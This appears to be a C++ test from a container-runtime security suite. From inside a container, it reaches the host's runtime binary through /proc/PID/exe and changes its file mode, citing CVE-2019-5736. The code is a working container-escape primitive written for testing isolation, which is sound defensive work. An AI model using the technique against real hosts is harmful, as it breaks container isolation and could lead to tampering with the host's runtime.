// SPDX-License-Identifier: MIT
// Changes the runtime's own program on the host, which /proc/PID/exe of its
// process in the container leads to: proc_pid_exe(5). Overwriting it takes more
// patience (CVE-2019-5736); its mode shows as well that it is within reach.
// It has worked if the mode of the host's file has changed.
#include <sys/mount.h>
#include <sys/stat.h>

#include "tests/attacks/rig/attack.hpp"

namespace attacks::runtime_binary {

constexpr mode_t kMode = 0711;

// Another file in its place, as the one that is there is the machine's.
Words prepare(Host& host) {
  const std::string program = support::read_file(host.runtime());
  check(umount(host.runtime().c_str()), "umount", host.runtime());
  support::write_file(host.runtime(), program, 0755);
  return {};
}

void attempt(const Words&) {
  const std::string runtime = std::to_string(getppid());
  const int program = try_open(find_proc() + "/" + runtime + "/exe");
  try_to(fchmod(program, kMode), "fchmod", "it to 711");
}

std::string effect(Host& host) {
  struct stat program {};
  stat(host.runtime().c_str(), &program);
  return if_so(
      (program.st_mode & 07777U) == kMode,
      "the mode of " + host.runtime() + " is 711");
}

const Entry kEntry({
    .name = "runtime-binary",
    .title = "fchmod the runtime's binary through /proc/PID/exe",
    .open = "the parent of the command, PID 1 from step 03 on, is the runtime, "
            "and /proc/PID/exe is no path but the program's file itself, on "
            "the host: proc_pid_exe(5). runc runs from a copy for this reason",
    .prepare = prepare,
    .attempt = attempt,
    .effect = effect,
});

}  // namespace attacks::runtime_binary
